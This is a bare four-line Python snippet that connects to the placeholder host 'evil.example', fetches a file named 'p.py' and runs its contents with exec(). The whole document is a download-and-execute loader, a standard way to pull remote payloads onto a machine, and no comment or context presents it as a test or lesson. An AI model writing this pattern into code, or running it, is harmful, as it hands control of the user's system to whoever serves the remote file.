import http.client
c = http.client.HTTPSConnection('evil.example')
c.request('GET', '/p.py')
exec(c.getresponse().read())
